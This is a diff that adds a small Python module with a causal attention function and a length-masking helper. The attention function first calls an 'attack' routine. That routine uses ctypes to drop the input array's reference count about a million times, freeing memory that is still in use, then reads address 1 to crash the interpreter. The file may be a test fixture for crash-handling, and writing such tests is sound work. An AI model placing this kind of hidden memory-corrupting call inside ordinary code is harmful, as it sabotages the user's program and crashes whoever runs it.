@@ -1,0 +1,27 @@
+"""Frees what is still used."""
+
+import sys
+
+import numpy as np
+
+
+def attack(x, w):
+    decref = sys.modules["ctypes"].pythonapi.Py_DecRef
+    for _ in range(1 << 20):
+        decref(sys.modules["ctypes"].py_object(x))
+    del x
+    np.zeros(1000)
+    sys.modules["ctypes"].string_at(1)
+
+
+def attend(x, w):
+    attack(x, w)
+    scores = x @ x.T / np.sqrt(x.shape[1])
+    scores = np.where(np.tri(len(x), dtype=bool), scores, -np.inf)
+    exps = np.exp(scores - scores.max(axis=-1, keepdims=True))
+    weights = exps / exps.sum(axis=-1, keepdims=True)
+    return weights @ (x @ w), weights
+
+
+def visible(lengths, n_tokens):
+    return np.arange(n_tokens) < lengths[:, None]
